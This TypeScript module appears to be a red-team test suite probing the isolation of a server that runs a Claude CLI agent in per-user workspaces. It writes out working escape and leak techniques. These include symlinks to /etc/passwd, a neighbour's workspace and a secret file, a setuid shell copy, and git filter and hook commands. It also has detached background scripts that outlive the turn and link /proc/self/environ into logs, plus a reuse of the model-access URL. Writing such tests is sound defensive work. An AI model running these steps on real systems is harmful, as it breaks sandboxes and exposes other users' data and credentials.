import { type Attack, bash, type Ground, node, SAY_SUCCESS } from './attack.ts';

const TRANSCRIPT = '"$CLAUDE_CONFIG_DIR/projects/p/$(basename $R).jsonl"';
const neighbour = ({ dataDir, neighbourId }: Ground): string => `${dataDir}/work/${neighbourId}`;

/**
 * Does it when the CLI has written its last line and the server is about to read what is there: before, the CLI would notice.
 * Leaves `workspace/<mark>` when it was done.
 */
function atTheEnd(script: string, mark: string): string {
  const lines = `grep -c '"text":"Done' "$T"`;
  const wait = `n=$(${lines}); until [ "$(${lines})" != "$n" ]; do sleep 0.01; done`;
  return `export T=${TRANSCRIPT} C="$CLAUDE_CONFIG_DIR" I="$(basename $R)"
    cat > /tmp/late-${mark}.sh <<'LATE'
${wait}
${script}
touch "$R/workspace/${mark}"
LATE
    setsid nohup sh /tmp/late-${mark}.sh >/dev/null 2>&1 &`;
}

/** What a turn leaves for the server to save and to restore. */
export const LEAVING: readonly Attack[] = [
  bash(
    'links that lead out of the workspace',
    ({ publicFolder }) =>
      `cd $R/workspace; ln -s /etc/passwd absolute; ln -s / root; ln -s ../../../../../../../../etc up; ln -s ${publicFolder} public; ln -s ${publicFolder}/secret.json secret; mkdir d; ln -s ../.. d/home; ln -s d/home/config chain; ln -s loop loop; ln -s . here; mkdir real; echo x > real/file; ln -s real/../.. dots`,
  ),
  bash(
    'links in the place of what the CLI keeps',
    (ground) =>
      `cd $CLAUDE_CONFIG_DIR; mkdir -p file-history; for f in plans file-history/$(basename $R) projects/p/memory; do rm -rf $f; ln -s ${neighbour(ground)}/workspace $f; done`,
  ),
  bash(
    'names that are read otherwise elsewhere',
    () =>
      `cd $R/workspace; touch -- '-rf' '--help' '..x' '...' 'a\\b' 'C:evil' $'new\\nline' $'esc\\e[31m' $'rtl\\u202etxt' $'bad\\xff' "$(printf 'n%.0s' $(seq 255))" 'con' 'x:y' '$(id)' '\`id\`' '*'; mkdir $'dir\\xff' sub-bad; touch $'dir\\xff/in\\xfe' $'sub-bad/in\\xfe'`,
  ),
  bash(
    'pipes, sockets and devices',
    () =>
      `cd $R/workspace; mkfifo pipe; ${node('require("net").createServer().listen("sock.et"); setTimeout(process.exit, 50)')}; mkdir -p $CLAUDE_CONFIG_DIR/plans2; mkfifo $CLAUDE_CONFIG_DIR/plans2/p; mkfifo $CLAUDE_CONFIG_DIR/projects/p/$(basename $R)/pipe`,
  ),
  bash(
    'a file of ten terabytes',
    () => 'cd $R/workspace; truncate -s 10T huge || truncate -s 1T huge || truncate -s 100G huge; ls -l huge',
  ),
  bash(
    'a deep tree and many files',
    () =>
      'cd $R/workspace; mkdir many; cd many; seq 500 | xargs touch; cd ..; for i in $(seq 120); do mkdir dddddddddddddddd; cd dddddddddddddddd; done; echo deep > file',
  ),
  bash(
    'shut directories and setuid files',
    () =>
      'cd $R/workspace; mkdir shut; echo x > shut/in; chmod 000 shut/in shut; cp /bin/sh suid; chmod 6777 suid; mkdir open; chmod 7777 open; mkdir $CLAUDE_CONFIG_DIR/shut; chmod 000 $CLAUDE_CONFIG_DIR/shut',
  ),
  bash(
    'a repository whose filters and hooks are commands',
    ({ markers }) =>
      `cd $R/workspace; git init -q -b main .; echo '* filter=evil' > .gitattributes; git add .gitattributes; git -c user.name=x -c user.email=x@x commit -qm x; for k in clean smudge; do git config filter.evil.$k "touch ${markers}/git-$k; cat"; done; for h in post-checkout reference-transaction; do printf '#!/bin/sh\\ntouch ${markers}/git-%s\\n' $h > .git/hooks/$h; chmod +x .git/hooks/$h; done`,
  ),
  bash('its grant for the model', () => 'echo $ANTHROPIC_BEDROCK_BASE_URL > $R/workspace/grant'),
];

/** What a turn leaves in its very last moment; each leaves `workspace/<mark>`, too, when it came to that. */
export const LATE: readonly Attack[] = [
  bash("a link to the server's environment as its log", () =>
    atTheEnd('ln -sfn /proc/self/environ "$C/debug/$I.txt"', 'late-log'),
  ),
  bash('a link to a secret as a task', ({ publicFolder, ...ground }) =>
    atTheEnd(
      `mkfifo "$C/tasks/$I/8.json"; ln -sfn ${publicFolder}/secret.json "$C/tasks/$I/9.json"; ln -sfn ${neighbour({ publicFolder, ...ground })}/config/tasks/${ground.neighbourId}/1.json "$C/tasks/$I/7.json"`,
      'late-task',
    ),
  ),
];
export const LATE_MARKS = ['late-log', 'late-task'];

/** What the next turn looks for. */
export const LOOKING: readonly Attack[] = [
  bash(
    'in its log',
    () => 'cat $CLAUDE_CONFIG_DIR/debug/*.txt | tr "\\0" "\\n" | grep -a -e planted -e flow-test -e REDTEAM',
  ),
  bash('in its tasks', () => 'cat $CLAUDE_CONFIG_DIR/tasks/*/*.json'),
  bash(
    'in what the CLI keeps',
    () =>
      'cd $CLAUDE_CONFIG_DIR; find . -type l | xargs -r ls -l; timeout 5 grep -rIso planted-.* plans file-history projects/p/memory projects/p/*/',
  ),
  bash(
    'in its workspace',
    () =>
      `cd $R/workspace; rm -f huge; find . -type l | head -50; find . -type f -perm /6000 | grep . && ${SAY_SUCCESS}; timeout 5 grep -aso "planted-[0-9a-f]*" secret public/* absolute`,
  ),
  bash('whether its grant of the last turn opens anything', () =>
    node(
      'const u = require("fs").readFileSync(process.env.R + "/workspace/grant", "utf8").trim(); const own = process.env.ANTHROPIC_BEDROCK_BASE_URL; fetch(new URL(own).origin + new URL(u).pathname + "/inference-profiles").then((r) => console.log(r.status === 200 ? "BREA" + "CHED" : r.status))',
    ),
  ),
  bash(
    'whether something of the last turn still runs',
    () => `ps auxww | grep redteam-[s]urvivor && ${SAY_SUCCESS}; ls $R/workspace/survived && ${SAY_SUCCESS}`,
  ),
];
